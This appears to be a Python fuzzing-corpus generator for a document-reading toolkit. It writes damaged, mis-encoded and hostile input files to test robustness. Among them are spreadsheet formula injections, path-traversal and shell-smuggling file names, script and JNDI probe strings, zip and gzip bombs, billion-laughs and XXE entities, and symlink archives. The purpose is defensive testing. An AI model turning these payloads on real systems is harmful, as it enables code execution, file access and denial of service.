"""Files that mean harm, or were harmed: some 400, the same for the same seed.

    python -m benchmarks.hostile FOLDER [--seed N]

Every kind that the toolkit reads, or may come to read, is made by hand from our own articles and
then cut short, flipped, stuffed and swapped; and there are files that are wrong by design: bombs,
path tricks, formulas, lone surrogates, numbers and depths beyond all measure. What each family is
after, its function says.
"""

from __future__ import annotations

import argparse
import csv
import gzip
import io
import json
import random
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

from toolkit import load_labelled

from .peers import ROOT

Files = Iterator[tuple[str, bytes]]

BOMB_BYTES = 100_000_000
DAMAGES_A_KIND = 13


def make(folder: Path, seed: int = 0) -> dict[str, list[Path]]:
    """Write the files, a folder for each family.

    Returns
    -------
    The files by family. The same seed makes the same files with the same packages.
    """
    made: dict[str, list[Path]] = {}
    for family in FAMILIES:
        name = family.__name__.strip("_")
        place = folder / name
        place.mkdir(parents=True)
        for number, (file_name, data) in enumerate(family(random.Random(f"{seed} {name}"))):
            path = place / f"{number:03}-{file_name}"
            path.write_bytes(data)
            made.setdefault(name, []).append(path)
    return made


# Sound files to start from


def articles() -> list[dict[str, Any]]:
    """Records of our own articles."""
    corpus = load_labelled(ROOT / "labelled", "train")[:12]
    return [{"id": f"a{n}", "title": a.title, "body": a.body} for n, a in enumerate(corpus)]


def page() -> str:
    """A page of six articles."""
    return (ROOT / "examples" / "page.txt").read_text("utf-8")


def jsonl(records: Iterable[object]) -> bytes:
    """Records a line."""
    return "".join(json.dumps(each, ensure_ascii=False) + "\n" for each in records).encode()


def table(rows: Iterable[Iterable[object]], delimiter: str = ",") -> bytes:
    """A table of cells."""
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter).writerows(rows)
    return text.getvalue().encode("utf-8", "surrogatepass")


def gzipped(data: bytes) -> bytes:
    """Packed with gzip, the same at any time."""
    return gzip.compress(data, mtime=0)


def parquet(columns: dict[str, Any]) -> bytes:
    """A Parquet file of columns."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    sink = pa.BufferOutputStream()
    pq.write_table(pa.table(columns), sink)
    return bytes(sink.getvalue())


def zipped(members: Iterable[tuple[str | zipfile.ZipInfo, bytes]]) -> bytes:
    """A zip of members; names as they are given, wherever they point."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name) if isinstance(name, str) else name
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return packed.getvalue()


def docx(text: str, prologue: str = "") -> bytes:
    """A Word file with a paragraph a line."""
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    lines = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in text.splitlines())
    return office(
        "word/document.xml",
        f'{prologue}<w:document xmlns:w="{word}"><w:body>{lines}</w:body></w:document>',
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    )


def xlsx(rows: Iterable[Iterable[str]], prologue: str = "") -> bytes:
    """A spreadsheet of one sheet."""
    sheet = "".join(
        "<row>" + "".join(f'<c t="inlineStr"><is><t>{cell}</t></is></c>' for cell in row) + "</row>"
        for row in rows
    )
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return office(
        "xl/workbook.xml",
        f'<workbook xmlns="{main}" xmlns:r="{relations}"><sheets>'
        '<sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
        f"{kind}.sheet.main+xml",
        ("xl/_rels/workbook.xml.rels", relation("worksheet", "worksheets/sheet1.xml")),
        (
            "xl/worksheets/sheet1.xml",
            f'{prologue}<worksheet xmlns="{main}"><sheetData>{sheet}</sheetData></worksheet>',
        ),
        also=f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/>',
    )


def office(part: str, xml: str, kind: str, *others: tuple[str, str], also: str = "") -> bytes:
    """An Office Open XML file with one main part."""
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{part}" ContentType="{kind}"/>{also}</Types>'
    )
    parts = (
        ("[Content_Types].xml", types),
        ("_rels/.rels", relation("officeDocument", part)),
        (part, xml),
        *others,
    )
    return zipped((name, text.encode()) for name, text in parts)


def relation(kind: str, target: str) -> str:
    """A relationships part that names one target."""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}"/></Relationships>'
    )


def html(text: str) -> bytes:
    """A web page with a paragraph a line."""
    lines = "".join(f"<p>{line}</p>" for line in text.splitlines())
    return f'<!doctype html><html><head><meta charset="utf-8"></head><body>{lines}'.encode()


def epub(text: str) -> bytes:
    """A book of one chapter."""
    container = (
        '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
        '<rootfiles><rootfile full-path="book.opf" '
        'media-type="application/oebps-package+xml"/></rootfiles></container>'
    )
    book = (
        '<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><manifest>'
        '<item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest>'
        '<spine><itemref idref="c"/></spine></package>'
    )
    lines = "".join(f"<p>{line}</p>" for line in text.splitlines())
    chapter = f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{lines}</body></html>'
    return zipped(
        [
            ("mimetype", b"application/epub+zip"),
            ("META-INF/container.xml", container.encode()),
            ("book.opf", book.encode()),
            ("c.xhtml", chapter.encode()),
        ]
    )


def pdf(text: str, kids: str = "3 0 R", packed: bytes | None = None) -> bytes:
    """A PDF of one page in a font that every reader has the metrics of."""
    lines = "".join(f"<{line.encode('utf-16-be').hex()}> Tj T*\n" for line in text.splitlines())
    content = f"BT /F 9 Tf 12 TL 20 800 Td\n{lines}ET".encode()
    packing = b"" if packed is None else b" /Filter /FlateDecode"
    stream = content if packed is None else packed
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count 1 >>".encode(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 840] /Contents 4 0 R "
        b"/Resources << /Font << /F 5 0 R >> >> >>",
        b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(stream), packing, stream),
        b"<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H "
        b"/DescendantFonts [6 0 R] >>",
        b"<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo "
        b"<< /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> /FontDescriptor 7 0 R >>",
        b"<< /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /FontBBox [0 0 1000 1000] "
        b"/ItalicAngle 0 /Ascent 880 /Descent -120 /CapHeight 880 /StemV 93 >>",
    ]
    data, places = b"%PDF-1.4\n", []
    for number, each in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    entries = "".join(f"{place:010} 00000 n \n" for place in places)
    size = len(objects) + 1
    return (
        data
        + (
            f"xref\n0 {size}\n0000000000 65535 f \n{entries}"
            f"trailer\n<< /Size {size} /Root 1 0 R >>\nstartxref\n{len(data)}\n%%EOF\n"
        ).encode()
    )


def sound() -> dict[str, bytes]:
    """One sound file of every kind."""
    import zstandard

    text, records = page(), articles()
    cells = [list(records[0]), *(list(record.values()) for record in records)]
    plain = text.encode()
    return {
        "a.txt": plain,
        "gb.txt": text.encode("gb18030"),
        "u16.txt": text.encode("utf-16"),
        "a.md": plain,
        "a.jsonl": jsonl(records),
        "a.json": json.dumps(records, ensure_ascii=False).encode(),
        "a.csv": table(cells),
        "a.tsv": table(cells, "\t"),
        "a.parquet": parquet({key: [each[key] for each in records] for key in records[0]}),
        "a.txt.gz": gzipped(plain),
        "a.jsonl.zst": zstandard.compress(jsonl(records)),
        "a.zip": zipped([("x/page.txt", plain), ("y.jsonl", jsonl(records))]),
        "a.html": html(text),
        "a.mhtml": b"MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n"
        b"Content-Transfer-Encoding: 8bit\n\n" + html(text),
        "a.docx": docx(text),
        "a.xlsx": xlsx(cells),
        "a.epub": epub(text),
        "a.pdf": pdf(text),
    }


# The families


def sound_files(chance: random.Random) -> Files:
    """Nothing is wrong: what is refused here is refused for nothing."""
    yield from sound().items()


def damaged_files(chance: random.Random) -> Files:
    """Every kind cut short, flipped, stuffed with NUL and 0xFF, repeated, swapped, renamed."""

    def place(data: bytes) -> int:
        return chance.randrange(max(len(data), 1))

    def flipped(data: bytes, count: int) -> bytes:
        changed = bytearray(data)
        for _ in range(count):
            changed[place(data)] ^= 1 << chance.randrange(8)
        return bytes(changed)

    def stuffed(data: bytes, what: bytes) -> bytes:
        at = place(data)
        return data[:at] + what + data[at:]

    damages: list[tuple[str, Callable[[bytes], bytes]]] = [
        ("empty", lambda data: b""),
        ("cut", lambda data: data[: place(data)]),
        ("cut", lambda data: data[: place(data)]),
        ("cut-by-one", lambda data: data[:-1]),
        ("headless", lambda data: data[place(data) :]),
        ("flip", lambda data: flipped(data, 1)),
        ("flips", lambda data: flipped(data, 20)),
        ("many-flips", lambda data: flipped(data, len(data) // 50 + 1)),
        ("nul", lambda data: stuffed(data, bytes(500))),
        ("ff", lambda data: stuffed(data, b"\xff" * 500)),
        ("mark", lambda data: stuffed(data, b"\xef\xbb\xbf")),
        ("twice", lambda data: data + data),
        ("swapped", lambda data: data[(at := place(data)) :] + data[:at]),
    ]
    assert len(damages) == DAMAGES_A_KIND
    for name, data in sound().items():
        for what, damage in damages:
            yield f"{what}-{name}", damage(data)


def wrong_suffixes(chance: random.Random) -> Files:
    """What the suffix promises is not what is in the file."""
    files = list(sound().items())
    for name, _ in files:
        other, data = chance.choice([each for each in files if each[0] != name])
        yield f"{other.replace('.', '-')}-as-{name}", data


def encodings(chance: random.Random) -> Files:
    """Marks, halves and mixtures of encodings."""
    text = page()
    half = len(text) // 2
    utf8, gb, big = text.encode(), text.encode("gb18030"), text.encode("big5", "replace")
    for codec in ("utf-8-sig", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "big5hkscs", "hz"):
        yield f"{codec}.txt", text.encode(codec, "replace")
    marks = {"8": b"\xef\xbb\xbf", "16le": b"\xff\xfe", "16be": b"\xfe\xff", "32": b"\xff\xfe\0\0"}
    for name, mark in marks.items():
        yield f"only-mark-{name}.txt", mark
        yield f"false-mark-{name}.txt", mark + gb
    yield "two-marks.txt", marks["8"] * 2 + utf8
    yield "marks-within.txt", "\ufeff".join(text[:2000]).encode()
    yield "utf8-then-gb.txt", text[:half].encode() + text[half:].encode("gb18030")
    yield "gb-then-utf8.txt", text[:half].encode("gb18030") + text[half:].encode()
    yield "utf8-big5-gb.txt", utf8[:3000] + big[:3000] + gb[:3000]
    lines = [
        line.encode(chance.choice(["utf-8", "gb18030", "utf-16-le"])) for line in text.splitlines()
    ]
    yield "lines-in-turns.txt", b"\n".join(lines)
    yield "odd-utf16.txt", text.encode("utf-16")[:-1]
    yield "half-gb.txt", gb[:-1]
    yield "overlong.txt", utf8 + b"\xc0\xaf\xe0\x80\xaf\xf8\x88\x80\x80\x80"
    yield "cesu.txt", utf8 + "\ud83d\ude00".encode("utf-8", "surrogatepass")
    yield "surrogates.txt", utf8 + "\ud800\udfff".encode("utf-8", "surrogatepass")
    yield (
        "mixed.jsonl",
        b"".join(
            json.dumps(record, ensure_ascii=False).encode(chance.choice(["utf-8", "gb18030"]))
            + b"\n"
            for record in articles()
        ),
    )
    yield (
        "mixed.csv",
        b"id,body\r\n"
        + b"".join(
            f"{n},{record['body'][:60]}\r\n".encode(chance.choice(["utf-8", "gb18030"]))
            for n, record in enumerate(articles())
        ),
    )
    for number in range(6):
        yield f"noise-{number}.txt", chance.randbytes(chance.randrange(1, 5000))


def characters(chance: random.Random) -> Files:
    """Texts of characters that are no plain text: controls, directions, marks without end."""
    body = articles()[0]["body"]
    odd = {
        "nul": "\0",
        "controls": "".join(map(chr, range(32))) + "\x7f\x85",
        "right-to-left": "\u202e\u2067\u200f",
        "zero-width": "\u200b\u200c\u200d\u2060\ufeff",
        "separators": "\u2028\u2029\x0b\x0c\x1c\x1d\x1e",
        "combining": "\u0301" * 300,
        "variation": "\ufe0f\U000e0100" * 50,
        "emoji": "👩‍👩‍👧‍👦🏳️‍🌈",
        "private": "\ue000\uf8ff\U0010ffff",
        "tags": "<script>alert(1)</script><!-- ]]> {{7*7}} ${jndi:x} %n%s",
        "escapes": "\x1b[2J\x1b]0;x\x07\x1b[31m",
        "surrogate": "\ud800",
    }
    for name, what in odd.items():
        text = what.join(chance.sample(body, len(body))[:60]) + f"\n{what}{body}{what}\n"
        yield f"{name}.txt", text.encode("utf-8", "surrogatepass")
        record = {"id": what, "title": f"{what}题{what}", "body": text, "reporters": [what]}
        yield f"{name}.jsonl", json.dumps(record).encode()
        yield f"{name}.csv", table([["id", "title", "body"], [what, f"{what}题", text]])
    shapes = {
        "blanks": " \u3000\t\n" * 30_000,
        "one-character": "工" * 300_000,
        "one-word": "工会" * 100_000,
        "full-stops": "。" * 200_000,
        "brackets": "（【《“" * 30_000,
        "commas": "，".join(body[:4] for _ in range(30_000)),
        "digits": "1234567890" * 30_000,
        "latin": "a" * 300_000,
        "short-lines": "工\n" * 50_000,
        "headings": "工会办实事\n" * 20_000,
        "bylines": "本报记者 王芳\n" * 20_000,
        "returns": body.replace("。", "。\r") * 20,
        "one-long-line": body.replace("\n", "") * 300,
        "many-pages": page() * 40,
    }
    for name, text in shapes.items():
        yield f"{name}.txt", text.encode()


def json_values(chance: random.Random) -> Files:
    """Depths, numbers, keys and types beyond what an article has."""
    deep = 100_000
    whole = {
        "deep-lists.json": "[" * deep + "]" * deep,
        "deep-objects.json": '{"body":' * deep + "1" + "}" * deep,
        "half-deep.json": "[" * deep,
        "deep-line.jsonl": '{"body":' * deep + "1" + "}" * deep + "\n",
        "long-number.json": '[{"body": ' + "9" * 100_000 + "}]",
        "long-number.jsonl": '{"body": "桥通了。", "position": ' + "9" * 100_000 + "}\n",
        "long-fraction.jsonl": '{"body": 0.' + "3" * 100_000 + "}\n",
        "same-keys.jsonl": "{" + '"body": "桥", ' * 5000 + '"body": "桥通了。"}\n',
        "many-keys.jsonl": json.dumps({str(n): n for n in range(50_000)} | {"body": "桥"}) + "\n",
        "scalar.json": "7",
        "null.json": "null",
        "string.json": '"桥通了。"',
        "empty-list.json": "[]",
        "empty-objects.json": "[{}, {}, []]",
        "comments.json": '[{"body": "桥通了。"}, /* x */]',
        "lines.json": '{"body": "桥通了。"}\n{"body": "路通了。"}\n',
        "wide-line.jsonl": json.dumps({"body": "桥通了。" * 300_000}) + "\n",
        "returns.jsonl": '{"body": "桥通了。"}\r{"body": "路通了。"}\r',
    }
    for name, text in whole.items():
        yield name, text.encode()
    raw = ["1e999", "-1e999", "NaN", "Infinity", "1e-999", "-0", "1.0", "true", "null", "[]", "{}"]
    raw += ['""', '" "', '"\\ud800"', '"\\udfff\\ud800"', '"\\u0000"', '[["x"]]', "[1]", '{"x": 1}']
    raw += [str(2**63), str(-(2**63) - 1), str(2**70), '"９"', '"٣"', '"1e3"', f'"{"9" * 5000}"']
    for field in ("id", "source", "position", "title", "reporters", "body"):
        lines = (f'{{"body": "桥昨天通了车。", "{field}": {value}}}\n' for value in raw)
        yield f"{field}-of-any-kind.jsonl", "".join(lines).encode()
    for field in ("theme", "themes", "scores", "evidence", "headline", "summary", "keywords"):
        lines = (f'{{"body": "桥昨天通了车。", "{field}": {value}}}\n' for value in raw)
        yield f"{field}-of-any-kind.jsonl", "".join(lines).encode()


def tables(chance: random.Random) -> Files:
    """Tables with torn quotes, cells and headers, and Parquet with columns of other kinds."""
    import datetime
    import decimal

    import pyarrow as pa

    body = articles()[0]["body"]
    texts = {
        "open-quote": 'id,body\r\n1,"' + body,
        "quote-within": 'id,body\r\n1,a"b"c\r\n2,"a"b\r\n',
        "header-only": "id,body\r\n",
        "no-header": "1,桥通了。\r\n",
        "blank-header": ",,\r\n1,2,3\r\n",
        "same-header": "body,body\r\n桥,路\r\n",
        "ragged": "id,body\r\n1\r\n2,桥,路\r\n\r\n3,桥通了。\r\n",
        "wide": ",".join(f"c{n}" for n in range(5000)) + ",body\r\n" + "," * 5000 + "桥通了。\r\n",
        "long-cell": 'id,body\r\n1,"' + "桥通了。\n" * 200_000 + '"\r\n',
        "nul": "id,body\r\n1,桥\0通了。\r\n",
        "returns": "id,body\r1,桥通了。\r2,路通了。\r",
        "semicolons": "id;body\r\n1;桥通了。\r\n",
        "backslash": 'id,body\r\n1,"a\\"b"\r\n',
    }
    for name, text in texts.items():
        yield f"{name}.csv", text.encode()
        yield f"{name}.tsv", text.replace(",", "\t").encode()
    columns: dict[str, Any] = {
        "numbers": [1, 2],
        "floats": [float("nan"), float("inf")],
        "booleans": [True, False],
        "lists": [["桥"], ["路"]],
        "structs": [{"x": 1}, {"x": 2}],
        "dates": [datetime.date(1, 1, 1), datetime.date(9999, 12, 31)],
        "times": [datetime.datetime(1600, 1, 1), datetime.datetime(2200, 1, 1)],
        "spans": [datetime.timedelta(days=1), datetime.timedelta(0)],
        "decimals": [decimal.Decimal("1.5"), decimal.Decimal("2.5")],
        "nulls": pa.nulls(2),
        "bytes": [b"\xff\xfe", b"ok"],
        "dictionary": pa.array(["桥", "路"]).dictionary_encode(),
        "maps": pa.array([[("a", 1)], []], pa.map_(pa.string(), pa.int64())),
        "not-utf8": pa.array([b"\xff", b"\xed\xa0\x80"]).cast(pa.binary()).view(pa.string()),
        "late-times": pa.array([2**62, -(2**62)], pa.timestamp("us")),
    }
    for name, values in columns.items():
        yield f"{name}.parquet", parquet({"id": ["1", "2"], "body": values})
        yield f"{name}-beside.parquet", parquet({"id": values, "body": ["桥通了。", "路通了。"]})
    yield "no-columns.parquet", parquet({})
    yield "no-rows.parquet", parquet({"body": pa.array([], pa.string())})
    yield "no-body.parquet", parquet({"text": ["桥"]})
    yield "end-only.parquet", b"PAR1" + struct.pack("<I", 2**31 - 1) + b"PAR1"


FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "+1+cmd|'/c calc'!A0",
    "-1+cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "-12",
    "+86100",
    "'-12",
    "\0=1+1",
)
PATHS = (
    "../../../../outside",
    "/outside",
    "..\\..\\outside",
    "C:\\outside",
    "\\\\host\\share",
    "file:///outside",
    "~/outside",
    "a/../../outside",
    ".",
    "..",
    "CON",
    "nul.txt",
    "a\0b",
    "a\nb",
    "x" * 5000,
    "$(touch outside)",
    "`touch outside`",
    "; touch outside",
    "%2e%2e%2foutside",
)


def formulas_and_paths(chance: random.Random) -> Files:
    """Fields that a spreadsheet would run, or that would be written somewhere if used as names."""
    records = [
        {"id": what, "title": what, "reporters": [what], "body": f"{what}桥昨天通了车。"}
        for what in (*FORMULAS, *PATHS)
    ]
    yield "fields.jsonl", jsonl(records)
    yield "sources.jsonl", jsonl({"source": what, "body": f"{what}桥通了。"} for what in PATHS)
    fields = ["id", "title", "kicker", "subtitle", "reporters", "body"]
    rows = [[what, what, what, what, what, f"{what}桥昨天通了车。"] for what in FORMULAS]
    yield "cells.csv", table([fields, *rows])
    yield "cells.tsv", table([fields, *rows], "\t")
    for number, what in enumerate(FORMULAS):
        yield f"line-{number}.txt", f"{what}\n{what}昨天，新桥通了车，赶集的人都来看。\n".encode()
    yield "=1+1.txt", page().encode()
    yield "-rf.txt", page().encode()
    yield "'\"<b>&.txt", page().encode()
    yield "a\nb.txt", page().encode()
    yield "名\udcff\udcfe.txt", page().encode()


def archives(chance: random.Random) -> Files:
    """Archives that lie about names, sizes and contents, or unpack to more than a disk holds."""
    import zstandard

    text = page().encode()
    for number, name in enumerate(PATHS):
        if "\0" not in name:
            yield f"path-{number}.zip", zipped([(f"{name}.txt", text)])
    link = zipfile.ZipInfo("link.txt")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    yield "link.zip", zipped([(link, b"/etc/hostname")])
    yield "same-names.zip", zipped([("a.txt", text), ("./a.txt", text), ("A.txt", text)])
    yield "no-members.zip", zipped([])
    yield "only-folders.zip", zipped([("x/", b""), ("x/y/", b"")])
    yield "many-members.zip", zipped((f"{n}.txt", b"") for n in range(3000))
    sound = zipped([("a.txt", text)])
    yield (
        "locked.zip",
        sound.replace(b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\0\1"),
    )
    yield "wrong-sum.zip", sound.replace(struct.pack("<I", zlib.crc32(text)), b"\0\0\0\0")
    yield "wrong-size.zip", sound.replace(struct.pack("<I", len(text)), b"\xff\xff\xff\x7f")
    yield "unknown-packing.zip", sound.replace(b"\x14\x00\x00\x00\x08\x00", b"\x14\0\0\0\x63\0")
    yield "not-last.zip", sound + text
    yield "not-first.zip", text + sound
    nested = sound
    for _ in range(12):
        nested = zipped([("a.zip", nested), ("b.zip", nested)])
    yield "nested.zip", nested
    yield "nested.gz.gz", gzipped(gzipped(text))
    yield "nested.txt.gz.gz", gzipped(gzipped(text))
    yield "nested.txt.gz.zst", zstandard.compress(gzipped(text))
    yield "members.txt.gz", gzipped(text) + gzipped(text)
    yield "tail.txt.gz", gzipped(text) + b"tail"
    yield "frames.txt.zst", zstandard.compress(text) + zstandard.compress(text)
    blank = b" " * BOMB_BYTES
    yield "bomb.txt.gz", gzipped(blank)
    yield "bomb.jsonl.gz", gzipped(b'{"body": "' + blank + b'"}')
    yield "bomb.csv.zst", zstandard.compress(b"id,body\n1," + blank)
    yield "bomb.json.zst", zstandard.compress(b"[" * BOMB_BYTES)
    yield "bomb.zip", zipped([("a.txt", blank), ("b.txt", blank)])
    yield "bomb-of-bombs.zip", zipped([(f"{n}.zip", zipped([("a.txt", blank)])) for n in range(3)])
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    entities = f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>'
    outside = '<!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/hostname">]>'
    for name, prologue in (("laughs", entities), ("outside", outside)):
        yield f"{name}.docx", docx("&l9;", prologue)
        yield f"{name}.xlsx", xlsx([["body"], ["&l9;"]], prologue)
        yield f"{name}.html", f"{prologue}<p>&l9;</p>".encode()
    yield "deep.html", b"<div>" * 100_000 + text
    yield "unclosed.html", b"<p" * 100_000 + text
    yield "big-sheet.xlsx", xlsx([["body"], *[["桥通了。"]] * 50_000])
    yield "itself.pdf", pdf("桥通了。", kids="2 0 R")
    yield "no-page.pdf", pdf("桥通了。", kids="99 0 R")
    yield "bomb.pdf", pdf("", packed=zlib.compress(blank))


FAMILIES: tuple[Callable[[random.Random], Files], ...] = (
    sound_files,
    damaged_files,
    wrong_suffixes,
    encodings,
    characters,
    json_values,
    tables,
    formulas_and_paths,
    archives,
)


def main() -> None:
    """Write the files and count them."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("folder", type=Path, help="a new folder")
    parser.add_argument("--seed", type=int, default=0)
    options = parser.parse_args()
    made = make(options.folder, options.seed)
    for family, files in made.items():
        print(f"{len(files):4} {family.replace('_', ' ')}")
    print(f"{sum(map(len, made.values())):4} in all")


if __name__ == "__main__":
    main()
